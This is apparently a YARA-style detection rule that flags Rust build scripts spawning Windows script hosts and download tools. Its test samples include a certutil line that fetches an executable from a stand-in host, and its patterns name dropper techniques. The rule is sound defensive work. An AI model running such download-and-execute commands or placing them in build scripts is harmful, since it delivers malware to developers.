/*
wscript, mshta and the tools that fetch or register what they are pointed at: the ways by which droppers on Windows start their
second stage. Builds call compilers.

```rust,match
fn main() { Command::new("wscript.exe").arg("//B").arg(vbs).spawn().unwrap(); }
```
```rust,match
fn main() { Command::new("cmd").args(["/C", "certutil -urlcache -f http://x.test/a a.exe"]).status().unwrap(); }
```
```rust,clean
fn main() { Command::new("powershell").args(["-NoProfile", "-Command", "Get-Item ."]).status().unwrap(); }
```
```rust,clean
fn main() { println!("cargo:rerun-if-changed=tests/wscript.rs"); }
```
*/
rule script_host_run : high {
  meta:
    id = "a382655c-91ce-4e53-9ed0-30683668376d"
    description = "A script host of Windows is run"
    author = "Sandpit"
    date = "2026-11-25"
    status = "stable"
    scope = "build-script"
    behaviours = "download-and-run-script, hidden-command"
    references = "incident 2026-08-20 arrayref, T1059.005, T1218, T1105"
  strings:
    $host = /Command::new\s?\(\s?"(wscript|cscript|mshta|regsvr32|rundll32|bitsadmin)(\.exe)?"/ nocase
    $certutil = /\bcertutil(\.exe)?[" ,\[\]]{1,6}[^\n]{0,60}-urlcache/ nocase
    $object = /CreateObject\(\\?"{1,2}(WScript\.Shell|MSXML2\.XMLHTTP|ADODB\.Stream)/ nocase
    $string = /\.DownloadString\(/ nocase
  condition:
    any of them
}
